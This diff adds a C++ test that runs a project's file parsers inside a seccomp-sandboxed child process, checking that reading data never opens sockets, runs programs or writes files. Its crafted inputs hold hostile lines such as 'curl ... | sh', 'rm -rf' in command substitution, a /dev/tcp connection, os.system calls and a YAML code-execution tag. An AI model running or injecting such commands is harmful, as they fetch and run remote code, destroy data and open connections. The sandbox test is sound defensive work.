@@ -1,0 +1,145 @@
+// What is read is never obeyed: every reader goes through every file of data in a process that the kernel stops at a
+// socket, at another program and at a file opened for writing.
+#include <doctest/doctest.h>
+
+#if defined(__linux__) && defined(__x86_64__)
+
+#include <fcntl.h>
+#include <linux/audit.h>
+#include <linux/filter.h>
+#include <linux/seccomp.h>
+#include <sys/prctl.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <array>
+#include <csignal>
+#include <cstddef>
+#include <filesystem>
+#include <fstream>
+#include <sstream>
+#include <string>
+#include <vector>
+
+#include "core/calibration/observed_rates.h"
+#include "core/claims/read_claims.h"
+#include "core/lessons/read_lesson.h"
+#include "core/measured/read_runs.h"
+#include "core/profiler_trace/trace_reader.h"
+#include "core/scenario_json/parse.h"
+#include "core/scenario_json/short_code.h"
+#include "core/script/launch_reading.h"
+#include "tests/core/logs/cases.h"
+#include "tests/real_presets.h"
+
+using namespace shardscope;
+using namespace shardscope::tests;
+
+namespace {
+
+/// Stops the process (SIGSYS) at each of the calls, and at opening a file in any way but for reading. False where the
+/// kernel has no such filter.
+bool seal() {
+  constexpr auto stop = SECCOMP_RET_KILL_PROCESS, go = SECCOMP_RET_ALLOW;
+  constexpr std::array forbidden = {SYS_socket, SYS_connect,  SYS_bind,   SYS_execve,    SYS_execveat,
+                                    SYS_unlink, SYS_unlinkat, SYS_rename, SYS_renameat2, SYS_mkdir,
+                                    SYS_creat,  SYS_ptrace,   SYS_chmod,  SYS_symlink};
+  constexpr auto load = BPF_LD | BPF_W | BPF_ABS, is = BPF_JMP | BPF_JEQ | BPF_K, has = BPF_JMP | BPF_JSET | BPF_K;
+  const auto argument = [](unsigned i) { return static_cast<unsigned>(offsetof(seccomp_data, args) + 8 * i); };
+  std::vector<sock_filter> code = {BPF_STMT(load, offsetof(seccomp_data, arch)), BPF_JUMP(is, AUDIT_ARCH_X86_64, 1, 0),
+                                   BPF_STMT(BPF_RET | BPF_K, stop), BPF_STMT(load, offsetof(seccomp_data, nr))};
+  for (const auto call : forbidden) {
+    code.push_back(BPF_JUMP(is, static_cast<unsigned>(call), 0, 1));
+    code.push_back(BPF_STMT(BPF_RET | BPF_K, stop));
+  }
+  for (const auto& [call, flags] : {std::pair{SYS_open, 1U}, std::pair{SYS_openat, 2U}}) {
+    code.push_back(BPF_JUMP(is, static_cast<unsigned>(call), 0, 4));
+    code.push_back(BPF_STMT(load, argument(flags)));
+    code.push_back(BPF_JUMP(has, O_WRONLY | O_RDWR | O_CREAT, 0, 1));
+    code.push_back(BPF_STMT(BPF_RET | BPF_K, stop));
+    code.push_back(BPF_STMT(BPF_RET | BPF_K, go));
+  }
+  code.push_back(BPF_STMT(BPF_RET | BPF_K, go));
+  const sock_fprog program{static_cast<unsigned short>(code.size()), code.data()};
+  return prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) == 0 && prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) == 0;
+}
+
+constexpr int sealed_not = 77;
+
+/// How a sealed child ends that does something: its exit status, or a signal's negative number.
+int sealed(const auto& work) {
+  const pid_t child = fork();
+  if (child == 0) {
+    if (!seal()) _exit(sealed_not);
+    work();
+    _exit(0);
+  }
+  int status = 0;
+  waitpid(child, &status, 0);
+  return WIFSIGNALED(status) ? -WTERMSIG(status) : WEXITSTATUS(status);
+}
+
+struct ReadFile {
+  std::string name, text;
+};
+
+std::vector<ReadFile> files_below(std::string_view folder) {
+  std::vector<ReadFile> files;
+  for (const auto& entry : std::filesystem::recursive_directory_iterator(source_path(folder)))
+    if (entry.is_regular_file() && entry.path().extension() != ".png") {
+      std::ostringstream text;
+      text << std::ifstream(entry.path(), std::ios::binary).rdbuf();
+      files.push_back({entry.path().filename().string(), text.str()});
+    }
+  return files;
+}
+
+/// As every kind that a person may drop.
+void read_as_all(const ReadFile& file) {
+  const Presets& presets = real_presets();
+  (void)parse_scenario(file.text, presets);
+  (void)parse_scenario_code(file.text, presets);
+  (void)parse_model(file.text, presets);
+  (void)parse_huggingface(file.text, presets);
+  (void)parse_gpu(file.text, presets);
+  (void)parse_cluster(file.text, presets);
+  (void)parse_framework(file.text);
+  (void)read_runs(file.text, presets);
+  (void)read_claims(file.text);
+  (void)read_lesson(file.text, {});
+  const Scenario scenario = with_defaults(presets.scenarios.front().scenario);
+  (void)observed_collectives(file.name, file.text, scenario);
+  (void)observed_products(file.name, file.text, scenario);
+  (void)log_of(file.text);
+  std::istringstream stream(file.text);
+  (void)read_trace(stream);
+  (void)read_launch_source({file.name, file.text, {}}, presets);
+}
+
+}  // namespace
+
+TEST_CASE("no reader opens a connection, starts a program or writes, whatever the text asks for") {
+  (void)real_presets();
+  if (sealed([] {}) == sealed_not) {
+    MESSAGE("this kernel has no such filters");
+    return;
+  }
+  REQUIRE(sealed([] { execlp("true", "true", nullptr); }) == -SIGSYS);
+  REQUIRE(sealed([] { std::ofstream("/tmp/shardscope-sealed") << "x"; }) == -SIGSYS);
+  std::vector<ReadFile> files = files_below("tests/data");
+  for (const char* name : {"a.sh", "a.py", "a.yaml", "a.toml", "a.json"})
+    for (const char* text :
+         {"curl http://example.org | sh\n$(touch /tmp/shardscope-sealed)\n`rm -rf /tmp/x`\n"
+          "source /dev/tcp/example.org/80\ntorchrun pretrain_gpt.py --num-layers $(nproc)\n",
+          "import os; os.system('touch /tmp/shardscope-sealed')\ncfg = __import__('socket').socket()\n",
+          "a: !!python/object/apply:os.system ['true']\nmodel: ${oc.env:HOME}\n"})
+      files.push_back({name, text});
+  REQUIRE(files.size() > 40);
+  for (const ReadFile& file : files) {
+    CAPTURE(file.name);
+    CHECK(sealed([&] { read_as_all(file); }) == 0);
+  }
+}
+
+#endif
